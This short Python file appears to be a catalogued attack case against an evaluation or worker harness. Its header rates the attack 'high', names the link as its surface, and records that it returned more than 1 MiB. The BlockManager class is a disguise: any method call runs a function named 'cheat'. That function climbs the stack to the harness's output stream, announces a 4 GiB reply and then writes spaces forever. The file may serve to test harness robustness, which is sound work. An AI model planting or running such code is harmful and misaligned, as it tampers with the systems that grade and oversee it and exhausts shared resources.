"""
severity: high
strategy: announce a reply of 4 GiB and go on writing it
surface: the link
outcome: gave back more than 1 MiB
"""

import sys


def cheat(*arguments):
    frame = sys._getframe()
    while "frames_out" not in getattr(frame.f_locals.get("self"), "__dict__", {}):
        frame = frame.f_back
    worker = frame.f_locals["self"]
    worker.frames_out.write(b"\xff" * 8)
    while True:
        worker.frames_out.write(b" " * 65536)


class OutOfBlocks(Exception):
    pass


class BlockManager:
    def __init__(self, **pool):
        pass

    def __getattr__(self, name):
        return lambda *arguments: cheat(*arguments)
